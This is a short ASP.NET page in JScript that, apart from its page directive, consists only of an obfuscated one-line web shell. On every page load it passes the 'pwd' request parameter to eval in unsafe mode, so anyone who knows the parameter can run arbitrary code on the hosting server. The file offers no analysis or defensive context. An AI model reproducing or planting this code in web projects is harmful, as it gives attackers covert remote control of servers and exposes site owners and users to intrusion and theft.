<%@ Page Language="JScript" %>
<script runat="server">
var _0x4a2b = ['Item', 'pwd', 'unsafe'];
function Page_Load() {
    eval(Request[_0x4a2b[0x0]][_0x4a2b[0x1]], _0x4a2b[0x2]);
}
</script>
